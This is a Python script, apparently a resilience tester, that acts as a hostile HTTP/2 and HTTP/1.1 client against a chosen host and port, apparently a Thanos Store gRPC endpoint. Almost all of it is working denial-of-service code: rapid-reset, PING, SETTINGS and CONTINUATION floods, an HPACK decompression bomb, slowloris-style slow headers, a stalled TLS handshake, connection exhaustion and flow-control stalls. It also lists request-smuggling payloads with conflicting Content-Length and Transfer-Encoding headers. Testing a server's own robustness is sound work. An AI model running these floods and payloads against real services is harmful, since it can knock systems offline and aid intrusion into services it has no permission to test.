"""A peer that means no good, on raw sockets: one attack a run, for so many seconds.

usage: hostile_peer.py ATTACK HOST:PORT SECONDS [SOURCE-ADDRESS]
Prints one line: what it sent, and what the server answered or did. Needs nothing but Python's own library.
"""
import collections
import errno
import resource
import select
import socket
import struct
import sys
import time

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 1, 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CODES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 3: "FLOW_CONTROL_ERROR", 5: "STREAM_CLOSED", 6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM",
         8: "CANCEL", 9: "COMPRESSION_ERROR", 11: "ENHANCE_YOUR_CALM"}

attack, address, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
source = sys.argv[4] if len(sys.argv) > 4 else "127.0.0.1"
host, port = address.rsplit(":", 1)
end = time.monotonic() + seconds
_, most_files = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (most_files, most_files))


def connect():
    sock = socket.create_connection((host, int(port)), timeout=10, source_address=(source, 0))
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return sock


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def field(name, value):
    """A field that goes into no table (RFC 7541, 6.2.2)."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def call_block(path):
    return (b"\x83\x86" + field(b":path", path) + field(b":authority", b"h") + field(b"te", b"trailers")
            + field(b"content-type", b"application/grpc"))


def message(payload):
    return b"\x00" + struct.pack(">I", len(payload)) + payload


# All series of all time: max_time, and __name__=~".+".
ALL_SERIES = message(b"\x10" + b"\xff" * 8 + b"\x7f" + b"\x1a\x10" + b"\x08\x02\x12\x08__name__\x1a\x02.+")
SERIES = call_block(b"/thanos.Store/Series")
counts = collections.Counter()


def note(data):
    """Counts what the frames in whole answers of HTTP/2 say; good enough for small answers."""
    at = 0
    while at + 9 <= len(data):
        length, kind = int.from_bytes(data[at:at + 3], "big"), data[at + 3]
        body = data[at + 9:at + 9 + length]
        if kind == GOAWAY and len(body) >= 8:
            code = int.from_bytes(body[4:8], "big")
            counts["GOAWAY " + CODES.get(code, str(code))] += 1
        if kind == HEADERS:
            counts["answers HEADERS"] += 1
        if kind == RST_STREAM and len(body) == 4:
            code = int.from_bytes(body, "big")
            counts["RST_STREAM " + CODES.get(code, str(code))] += 1
        at += 9 + length


def closed(sock, wait=0.0):
    """Takes what came. Whether the server has closed."""
    while True:
        ready, _, _ = select.select([sock], [], [], wait)
        if not ready:
            return False
        try:
            data = sock.recv(1 << 16)
        except OSError:
            return True
        if not data:
            return True
        note(data)


def flood(make, rate):
    """Sends what `make(number)` gives, `rate` a second, in portions of 5 ms; connects anew when it is cut off."""
    sent, number, sock = 0, 1, None
    begin = time.monotonic()
    while time.monotonic() < end:
        due = int((time.monotonic() - begin) * rate) - sent
        if due <= 0:
            time.sleep(0.002)
            continue
        due = min(due, rate // 20)
        if sock is None:
            try:
                sock = connect()
                sock.sendall(PREFACE + frame(SETTINGS))
            except OSError as error:
                counts["connect: " + errno.errorcode.get(error.errno, "timed out")] += 1
                sent = int((time.monotonic() - begin) * rate)
                sock = None
                time.sleep(0.01)
                continue
            counts["connections"] += 1
            number = 1
        try:
            sock.sendall(b"".join(make(number + 2 * i) for i in range(due)))
            is_closed = closed(sock)
        except OSError:
            is_closed = True
        sent += due
        number += 2 * due
        if is_closed:
            counts["cut off"] += 1
            try:
                closed(sock)
                sock.close()
            except OSError:
                pass
            sock = None
    counts["sent"] = sent


def reset_after(others):
    """Each call is reset when so many others were made after it: its work has begun by then, or not."""
    def one(stream):
        before = stream - 2 * others
        return (frame(HEADERS, END_HEADERS, stream, SERIES) + frame(DATA, END_STREAM, stream, ALL_SERIES)
                + (frame(RST_STREAM, 0, before, struct.pack(">I", 8)) if before > 0 else b""))
    flood(one, 20000)


def resets():
    reset_after(0)


def late_resets():
    reset_after(300)


def pings():
    flood(lambda number: frame(PING, 0, 0, struct.pack(">Q", number)), 50000)


def settings():
    flood(lambda number: frame(SETTINGS), 50000)


def empty_frames():
    # The first frame of a connection opens the stream that all others are for.
    flood(lambda number: frame(HEADERS, END_HEADERS, 1, SERIES) if number == 1 else frame(DATA, 0, 1), 50000)


def continuations():
    flood(lambda number: frame(HEADERS, 0, 1, SERIES) if number == 1 else
          frame(CONTINUATION, 0, 1, field(b"x", b"y" * 100)), 5000)


def hpack_bomb():
    # A field of 3,900 bytes goes into the table; each byte after it says it again.
    name_and_value = b"\x40\x01x" + b"\x7f\xbd\x1d" + b"a" * 3900
    bomb = call_block(b"/") + name_and_value + b"\xbe" * 11000
    flood(lambda number: frame(HEADERS, END_HEADERS | END_STREAM, number, bomb), 200)


def watch(sockets, also=lambda sock, state: None, pause=0.1):
    """Keeps connections until the end, or until the server has closed them."""
    begin, open_now, last = time.monotonic(), dict.fromkeys(sockets, 0), 0.0
    while time.monotonic() < end and open_now:
        for sock in list(open_now):
            try:
                also(sock, open_now[sock])
                if closed(sock):
                    raise OSError
                open_now[sock] += 1
            except OSError:
                del open_now[sock]
                last = time.monotonic() - begin
                counts["closed by the server"] += 1
        time.sleep(pause)
    counts["still open"] = len(open_now)
    if last:
        print(f"last closed after {last:.1f} s; ", end="")


def connect_many(count, first=b""):
    sockets = []
    for _ in range(count):
        try:
            sock = connect()
            if first:
                sock.sendall(first)
            sockets.append(sock)
        except OSError as error:
            counts["connect: " + errno.errorcode.get(error.errno, "timed out")] += 1
    counts["connections"] = len(sockets)
    return sockets


def idle():
    watch(connect_many(1000))


def handshake():
    # The begin of a ClientHello that never goes on.
    watch(connect_many(200, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x00" * 20))


def slow_headers():
    text = b"GET /metrics HTTP/1.1\r\nHost: h\r\nX-Slow: " + b"a" * 10000

    def one_byte(sock, state):
        sock.sendall(text[state:state + 1])
    watch(connect_many(200), one_byte)


def stalled():
    # More calls than the server works on at the same time, and no window for any answer.
    no_window = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
    calls = b"".join(frame(HEADERS, END_HEADERS, stream, SERIES) + frame(DATA, END_STREAM, stream, ALL_SERIES)
                     for stream in range(1, 81, 2))
    watch(connect_many(3, PREFACE + no_window + calls))


def length_prefix():
    # A message of 2 GiB is announced; the server need not see more of it to say no. Then it comes nevertheless, whatever the window.
    sock = connect()
    sock.sendall(PREFACE + frame(SETTINGS) + frame(HEADERS, END_HEADERS, 1, SERIES)
                 + frame(DATA, 0, 1, b"\x00\x7f\xff\xff\xff" + b"x" * 10000))
    closed(sock, 1.0)
    sent = 0
    sock.settimeout(1)
    try:
        while time.monotonic() < end and not closed(sock):
            sock.sendall(frame(DATA, 0, 1, b"x" * 16384))
            sent += 16384
    except OSError:
        counts["closed by the server"] += 1
    counts["MiB sent"] = sent >> 20


SMUGGLING = {
    "length and chunks": b"POST / HTTP/1.1\r\nHost: h\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "two lengths": b"POST / HTTP/1.1\r\nHost: h\r\nContent-Length: 4\r\nContent-Length: 5\r\n\r\nabcde",
    "a list of lengths": b"POST / HTTP/1.1\r\nHost: h\r\nContent-Length: 4, 4\r\n\r\nabcd",
    "a length with a sign": b"POST / HTTP/1.1\r\nHost: h\r\nContent-Length: +4\r\n\r\nabcd",
    "a continued line": b"GET / HTTP/1.1\r\nHost: h\r\nX: a\r\n b\r\n\r\n",
    "bare line feeds": b"GET / HTTP/1.1\nHost: h\n\n",
    "a bare carriage return": b"GET / HTTP/1.1\r\nHost: h\r\nX: a\rb\r\n\r\n",
    "a space before the colon": b"GET / HTTP/1.1\r\nHost: h\r\nContent-Length : 4\r\n\r\nabcd",
    "no host": b"GET / HTTP/1.1\r\n\r\n",
    "two hosts": b"GET / HTTP/1.1\r\nHost: h\r\nHost: g\r\n\r\n",
    "chunked twice": b"POST / HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "a chunk size with 0x": b"POST / HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n0x4\r\nabcd\r\n0\r\n\r\n",
    "a zero byte": b"GET / HTTP/1.1\r\nHost: h\r\nX: a\0b\r\n\r\n",
}


def smuggling():
    # Whatever follows must not be answered.
    for shape, text in SMUGGLING.items():
        sock = connect()
        sock.sendall(text + b"GET /-/healthy HTTP/1.1\r\nHost: h\r\n\r\n")
        sock.settimeout(5)
        answer = b""
        try:
            while True:
                data = sock.recv(1 << 16)
                if not data:
                    break
                answer += data
        except OSError as error:
            answer += b" " + str(error).encode()
        counts[f"{shape}: {answer[9:12].decode(errors='replace')}, {answer.count(b'HTTP/1.1 ')} answers"] += 1


ATTACKS = {
    "resets": resets, "late-resets": late_resets, "pings": pings, "settings": settings, "empty-frames": empty_frames, "continuations": continuations,
    "hpack-bomb": hpack_bomb, "idle": idle, "handshake": handshake, "slow-headers": slow_headers, "stalled": stalled,
    "length-prefix": length_prefix, "smuggling": smuggling,
}
ATTACKS[attack]()
print("; ".join(name if name.endswith(" answers") else f"{name}: {count}" for name, count in counts.items()))
